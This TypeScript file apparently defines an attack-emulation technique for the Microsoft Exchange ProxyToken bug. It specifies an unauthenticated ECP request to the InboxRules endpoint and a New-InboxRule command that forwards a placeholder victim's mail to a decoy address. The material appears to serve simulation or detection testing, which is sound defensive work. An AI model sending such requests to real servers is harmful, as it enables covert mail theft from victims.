import { tools } from '../stories/forged-anchor.ts';
import type { Technique } from '../technique.ts';

const stem = '/ecp/{VICTIM1}/RulesEditor/InboxRules.svc/NewObject';
const query = 'msExchEcpCanary={CANARY}';

export const proxytoken: readonly Technique[] = [
  {
    id: 'proxytoken/rule',
    name: 'a rule that forwards mail, made without a password',
    stage: 'spread',
    sources: ['https://cyber.vumetric.com/security-news/2021/08/30/microsoft-exchange-proxytoken-bug-allows-email-snooping'],
    steps: [
      {
        name: 'rule',
        request: {
          protocol: 'Ecp',
          method: 'POST',
          stem,
          query,
          agent: tools.python,
          authentication: 'FBA',
          // It is published as answered 500, also where it worked.
          status: 500,
          proxied: { hint: 'ExplicitLogon-SMTP', status: 500 },
          back: { stem, query, status: 500 },
        },
        commands: [
          {
            beforeMs: 60,
            command: "New-InboxRule.ForwardTo='x@{DECOY}'.Name='a'.Mailbox='{VICTIM1}'",
            url: `${stem}?${query}`,
            referer: '',
          },
        ],
        stage: 'spread',
      },
    ],
  },
];
